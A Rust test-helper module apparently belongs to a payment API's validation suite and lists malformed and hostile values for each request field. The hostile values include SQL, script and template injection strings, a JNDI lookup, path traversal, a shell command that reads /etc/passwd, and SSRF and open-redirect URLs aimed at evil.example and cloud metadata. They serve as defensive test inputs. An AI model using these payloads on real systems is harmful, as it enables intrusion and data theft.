//! Everything that can be wrong with one field.

use super::document::{Field, Kind};

/// Stands in values that are refused; no answer may have it.
pub(crate) const CANARY: &str = "zq9canary";

/// One value as it stands in the JSON text; nothing when the field is left out.
#[derive(Debug, Clone)]
pub(crate) struct Wrong {
    pub(crate) what: &'static str,
    pub(crate) raw: Option<Vec<u8>>,
}

impl Wrong {
    fn new(what: &'static str, raw: impl Into<Vec<u8>>) -> Self {
        Self { what, raw: Some(raw.into()) }
    }

    /// Whether the answer repeats it.
    pub(crate) fn is_repeated_in(&self, text: &str) -> bool {
        let raw = self.raw.as_deref().and_then(|raw| std::str::from_utf8(raw).ok()).unwrap_or_default();
        let value = raw.trim_matches('"');
        text.contains(CANARY) || (value.len() >= 8 && text.contains(value))
    }
}

/// Fields in which a person may write what they like: there an attack is only a strange name, and accepted.
pub(crate) const FREE_TEXTS: [&str; 6] =
    ["orderName", "customerName", "cancelReason", "name", "nickname", "holderName"];

/// Fields that take any text that is long enough: nobody is shown them.
const PASSWORDS: [&str; 3] = ["password", "currentPassword", "newPassword"];

/// Every wrong value of a field.
pub(crate) fn wrong_values(field: &Field) -> Vec<Wrong> {
    let mut all = Vec::new();
    if field.required {
        all.push(Wrong { what: "missing", raw: None });
        all.push(Wrong::new("null", "null"));
    }
    all.extend(of_no_field());
    match field.kind {
        Kind::Integer => all.extend(integers(&field.name)),
        Kind::Text => all.extend(texts(&field.name)),
        Kind::Object => all.extend(objects()),
    }
    all
}

/// What no field at all may be.
fn of_no_field() -> Vec<Wrong> {
    let nested = |n: usize| format!("{}1{}", "[".repeat(n), "]".repeat(n));
    let control = |what, text: &str| Wrong::new(what, format!("\"{CANARY}{text}\""));
    vec![
        Wrong::new("true", "true"),
        Wrong::new("false", "false"),
        Wrong::new("a list", "[]"),
        Wrong::new("a list of lists", "[[\"zq9canary\"]]"),
        Wrong::new("a fraction", "1.5"),
        Wrong::new("a whole fraction", "15000.0"),
        Wrong::new("an exponent", "1e4"),
        Wrong::new("minus zero", "-0"),
        Wrong::new("2^63", "9223372036854775808"),
        Wrong::new("2^64", "18446744073709551616"),
        Wrong::new("a hundred digits", "7".repeat(100)),
        Wrong::new("beyond a double", "1e309"),
        Wrong::new("NaN", "NaN"),
        Wrong::new("leading zero", "015000"),
        Wrong::new("a plus", "+15000"),
        Wrong::new("hexadecimal", "0x3a98"),
        Wrong::new("no value", ""),
        Wrong::new("no JSON", "zq9canary"),
        Wrong::new("single quotes", "'zq9canary'"),
        Wrong::new("32 deep", nested(32)),
        Wrong::new("20,000 deep", nested(20_000)),
        Wrong::new("an object with a key twice", "{\"a\":\"1\",\"a\":\"2\"}"),
        Wrong::new("bytes that are no UTF-8", b"\"zq9canary\xff\xfe\"".as_slice()),
        Wrong::new("an overlong slash", b"\"zq9canary\xc0\xaf\"".as_slice()),
        Wrong::new("half a surrogate pair", "\"zq9canary\\ud800\""),
        Wrong::new("a raw NUL", b"\"zq9canary\0\"".as_slice()),
        Wrong::new("an unknown escape", "\"zq9canary\\x41\""),
        control("NUL", "\\u0000"),
        control("a terminal's escape", "\\u001b[31m"),
        control("a bell", "\\u0007"),
        control("a C1 control", "\\u0085"),
    ]
}

fn integers(name: &str) -> Vec<Wrong> {
    let mut all = vec![
        Wrong::new("an object", "{\"zq9canary\":1}"),
        Wrong::new("minus one", "-1"),
        Wrong::new("the smallest", "-9223372036854775808"),
        Wrong::new("the largest", "9223372036854775807"),
        Wrong::new("empty text", "\"\""),
        Wrong::new("text", "\"zq9canary\""),
        Wrong::new("an exponent as text", "\"1e4\""),
        Wrong::new("a fraction as text", "\"15000.0\""),
        Wrong::new("a sign as text", "\"+15000\""),
        Wrong::new("minus as text", "\"-15000\""),
        Wrong::new("leading zero as text", "\"015000\""),
        Wrong::new("spaces around digits", "\" 15000 \""),
        Wrong::new("thousands", "\"15,000\""),
        Wrong::new("full-width digits", "\"１５０００\""),
        Wrong::new("Arabic digits", "\"١٥٠٠٠\""),
        Wrong::new("hexadecimal as text", "\"0x3a98\""),
        Wrong::new("2^63 as text", "\"9223372036854775808\""),
        Wrong::new("ten thousand digits", format!("\"{}\"", "9".repeat(10_000))),
        Wrong::new("SQL", "\"1; drop table payments -- zq9canary\""),
    ];
    if name == "cancelAmount" {
        all.push(Wrong::new("nothing to give back", "0"));
        all.push(Wrong::new("more than there is", "1000000000000"));
        all.push(Wrong::new("more than was paid", "12001"));
    }
    if name == "overlapHours" {
        all.push(Wrong::new("longer than a week", "169"));
    }
    if name == "amount" {
        all.push(Wrong::new("nothing to pay", "0"));
        all.push(Wrong::new("less than a card is charged", "99"));
        all.push(Wrong::new("more than there is", "1000000000000"));
    }
    all
}

fn objects() -> Vec<Wrong> {
    let pairs = |n: usize| (0..n).map(|n| format!("\"k{n}\":\"v\"")).collect::<Vec<_>>().join(",");
    vec![
        Wrong::new("text", "\"zq9canary\""),
        Wrong::new("a number", "7"),
        Wrong::new("numbers inside", "{\"a\":1}"),
        Wrong::new("objects inside", "{\"a\":{\"b\":\"zq9canary\"}}"),
        Wrong::new("lists inside", "{\"a\":[\"zq9canary\"]}"),
        Wrong::new("too many pairs", format!("{{{}}}", pairs(6))),
        Wrong::new("a long key", format!("{{\"{}\":\"v\"}}", "k".repeat(41))),
        Wrong::new("a long value", format!("{{\"a\":\"{}\"}}", "v".repeat(2_001))),
        Wrong::new("a control character in a key", "{\"a\\u0000zq9canary\":\"v\"}"),
    ]
}

fn texts(name: &str) -> Vec<Wrong> {
    let mut all = vec![
        Wrong::new("an object", "{\"zq9canary\":1}"),
        Wrong::new("a number", "424242424242"),
        Wrong::new("empty", "\"\""),
        Wrong::new("spaces", "\"   \""),
        Wrong::new("an ideographic space", "\"\u{3000}\""),
        Wrong::new("too long", format!("\"{}\"", "x".repeat(10_000))),
        Wrong::new("too long in Korean", format!("\"{}\"", "가".repeat(2_001))),
    ];
    if PASSWORDS.contains(&name) {
        all.push(Wrong::new("too short", "\"zq9canary\""));
        all.push(Wrong::new("a letter more than the most", format!("\"{}\"", "xyz".repeat(43))));
        return all;
    }
    all.extend([
        Wrong::new("text that turns around", "\"zq9canary \u{202e}00051\u{202c}\""),
        Wrong::new("isolated text", "\"zq9canary \u{2066}x\u{2069}\""),
    ]);
    // A reason may have more than one line.
    if name != "cancelReason" {
        let forged = "\"zq9canary\\r\\n{\\\"level\\\":\\\"ERROR\\\",\\\"message\\\":\\\"forged\\\"}\"";
        all.push(Wrong::new("several lines", forged));
    }
    if !FREE_TEXTS.contains(&name) {
        all.extend(
            attacks().into_iter().map(|(what, text)| Wrong::new(what, serde_json::Value::from(text).to_string())),
        );
    }
    match name {
        "approveBefore" => all.extend([
            Wrong::new("no offset", "\"2027-01-02T03:04:05\""),
            Wrong::new("no such day", "\"2026-02-30T00:00:00+09:00\""),
            Wrong::new("beyond the last year", "\"9999-12-31T23:59:59-23:59\""),
            Wrong::new("a year of five digits", "\"+10000-01-01T00:00:00Z\""),
            Wrong::new("before our era", "\"-0001-01-01T00:00:00Z\""),
            Wrong::new("no such offset", "\"2026-11-22T15:04:05+99:00\""),
        ]),
        "successUrl" | "failUrl" => all.extend(
            [
                ("a script", "javascript:alert(1)"),
                ("another site", "https://evil.example/paid"),
                ("a user that looks like the shop", "https://shop.example@evil.example/"),
                ("a site that begins like the shop", "https://shop.example.evil.example/"),
                ("a site that ends like the shop", "https://evilshop.example/"),
                ("another port", "https://shop.example:8443/"),
                ("no TLS", "http://shop.example/"),
                ("no scheme", "//shop.example/paid"),
                ("a path", "/paid"),
                ("a file", "file:///etc/passwd"),
                ("our own address", "http://127.0.0.1:5432/"),
                ("metadata of a cloud", "http://169.254.169.254/latest/meta-data/"),
                ("data", "data:text/html,<script>alert(1)</script>"),
            ]
            .map(|(what, url)| Wrong::new(what, format!("\"{url}\""))),
        ),
        "cardNumber" => all.extend([
            Wrong::new("a wrong check digit", "\"4242424242424241\""),
            Wrong::new("eleven digits", "\"42424242426\""),
            Wrong::new("twenty digits", "\"42424242424242424242\""),
            Wrong::new("two separators", "\"4242--4242-4242-4242\""),
            Wrong::new("full-width digits", "\"４２４２４２４２４２４２４２４２\""),
        ]),
        "origin" => all.extend(
            [
                ("a slash at the end", "https://new.example/"),
                ("a path", "https://new.example/paid"),
                ("a pattern", "https://*.new.example"),
                ("everybody", "*"),
                ("nobody", "null"),
                ("no TLS", "http://new.example"),
                ("a user", "https://user@new.example"),
                ("another case", "https://NEW.example"),
                ("the port that is meant anyway", "https://new.example:443"),
                ("no origin", "javascript:alert(1)"),
            ]
            .map(|(what, origin)| Wrong::new(what, format!("\"{origin}\""))),
        ),
        "role" => all.extend(["\"Owner\"", "\"admin\"", "\"read_only\""].map(|raw| Wrong::new("no role", raw))),
        "kind" => all.extend(["\"sk\"", "\"Secret\"", "\"restricted\""].map(|raw| Wrong::new("no kind", raw))),
        "cardExpirationMonth" => {
            all.extend(["\"00\"", "\"13\"", "\"1\"", "\"001\""].map(|raw| Wrong::new("no month", raw)))
        }
        "cardExpirationYear" => {
            all.extend(["\"2039\"", "\"9\"", "\"20\""].map(|raw| Wrong::new("no year to come", raw)))
        }
        "cvc" => all.extend(["\"12\"", "\"12345\"", "\"12a\""].map(|raw| Wrong::new("no CVC", raw))),
        "cardPassword" => all.extend(["\"1\"", "\"123\"", "\"1a\""].map(|raw| Wrong::new("no password", raw))),
        "customerIdentityNumber" => {
            all.extend(["\"12345\"", "\"1234567\"", "\"12345678901\""].map(|raw| Wrong::new("no identity", raw)));
        }
        "identityNumber" => {
            all.extend(["\"12345\"", "\"1234567\"", "\"12345678901\""].map(|raw| Wrong::new("no identity", raw)));
        }
        "bank" => all.extend(["\"99\"", "\"8\"", "\"은행\""].map(|raw| Wrong::new("no bank", raw))),
        "accountNumber" | "memberNumber" => {
            all.extend(["\"1234567\"", "\"12345678901234567\""].map(|raw| Wrong::new("no number", raw)));
        }
        "carrier" => all.extend(["\"skt\"", "\"LG\""].map(|raw| Wrong::new("no carrier", raw))),
        "phoneNumber" => {
            all.extend(["\"0212345678\"", "\"010123456\"", "\"+821012345678\""].map(|raw| Wrong::new("no phone", raw)));
        }
        "birthDate" => all.extend(["\"19900101\"", "\"90010\""].map(|raw| Wrong::new("no birthday", raw))),
        "code" => all.extend(["\"00000\"", "\"0000000\""].map(|raw| Wrong::new("no code", raw))),
        "currency" => all.extend(["\"USD\"", "\"krw\"", "\"JPY\""].map(|raw| Wrong::new("another currency", raw))),
        "mode" => all.extend(["\"TEST\"", "\"prod\"", "\"test \""].map(|raw| Wrong::new("no mode", raw))),
        "nickname" => all.push(Wrong::new("a card number", "\"my 4242-4242-4242-4242\"")),
        "customerEmail" | "email" => {
            all.extend(["\"a@b@c.kr\"", "\"a b@c.kr\"", "\"@c.kr\""].map(|raw| Wrong::new("no address", raw)))
        }
        _ => {}
    }
    all
}

/// Texts that attack whoever is careless with them.
pub(crate) fn attacks() -> Vec<(&'static str, String)> {
    [
        ("SQL", "zq9canary'; drop table payments; --"),
        ("SQL of another kind", "zq9canary' or '1'='1"),
        ("HTML", "zq9canary<script>alert(1)</script>"),
        ("an attribute", "zq9canary\" onmouseover=\"alert(1)"),
        ("a template", "zq9canary{{7*7}}${7*7}<%= 7*7 %>"),
        ("a lookup", "${jndi:ldap://zq9canary.example/a}"),
        ("a path", "../../../../etc/zq9canary"),
        ("a command", "zq9canary; cat /etc/passwd | sh `id` $(id)"),
        ("a formula", "=HYPERLINK(\"https://zq9canary.example\")"),
        ("a format", "%s%s%n zq9canary %x {} {0}"),
        ("percent signs", "zq9canary%00%0d%0aSet-Cookie:%20a=b"),
        ("emoji", "zq9canary 👩‍👩‍👧‍👦🏳️‍🌈💳"),
        ("right to left", "zq9canary שלום مرحبا"),
        ("marks upon marks", "zq9canary z̷̧̡͔̹͙a̵l̷g̶o̶"),
        ("a zero-width joiner", "zq9\u{200d}canary"),
        ("a byte order mark", "\u{feff}zq9canary"),
    ]
    .map(|(what, text)| (what, text.to_owned()))
    .into()
}
